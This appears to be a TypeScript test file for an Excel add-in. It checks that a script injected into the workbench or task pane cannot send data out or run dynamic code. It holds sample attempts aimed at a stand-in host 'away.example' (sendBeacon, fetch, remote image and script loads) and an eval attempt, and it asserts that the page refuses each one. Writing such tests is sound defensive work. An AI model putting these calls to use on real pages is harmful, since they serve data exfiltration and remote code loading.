import { OFFICE_JS } from "./excelPane";
import { openPage, openWorkbench, type OpenPage } from "./workbenchPage";

/** What a script that got onto the page would try, and how each ended. */
function attempts(): Promise<Readonly<Record<string, string>>> {
  const away = "https://away.example/";
  const outcome = (attempt: () => unknown): Promise<string> =>
    Promise.resolve()
      .then(attempt)
      .then(
        () => "went through",
        () => "refused",
      );
  const loads = (element: HTMLImageElement | HTMLScriptElement): Promise<unknown> =>
    new Promise((resolve, reject) => {
      element.onload = resolve;
      element.onerror = reject;
      element.src = `${away}x`;
      document.head.append(element);
    });
  const made = (resolve: (value: unknown) => void, reject: (reason: unknown) => void): void => {
    try {
      resolve(new Function("return 1")());
    } catch (error) {
      reject(error);
    }
  };
  navigator.sendBeacon(away, "x");
  const named: readonly (readonly [string, () => unknown])[] = [
    ["fetch away", () => fetch(away)],
    ["fetch from the own server", () => fetch(location.href)],
    ["image", () => loads(new Image())],
    ["script", () => loads(document.createElement("script"))],
    // in a task of its own: what the browser's debugger evaluates itself is exempt
    ["eval", () => new Promise((resolve, reject) => setTimeout(() => made(resolve, reject)))],
  ];
  return Promise.all(named.map(async ([name, attempt]) => [name, await outcome(attempt)] as const)).then(
    Object.fromEntries,
  );
}

async function attemptsOn({ page, misdeeds }: OpenPage): Promise<void> {
  const all = await page.evaluate(attempts);
  expect(all).toEqual(Object.fromEntries(Object.keys(all).map((name) => [name, "refused"])));
  // refused before it reached the network; the pane asks for Microsoft's library and for nothing else
  expect(misdeeds.requestsAway.filter((url) => url !== OFFICE_JS)).toEqual([]);
}

test("nothing leaves the workbench, whatever runs on it", async () => {
  await attemptsOn(await openWorkbench());
});

test("nothing leaves the pane's page, whatever runs on it", async () => {
  await attemptsOn(await openPage("taskpane.html"));
});
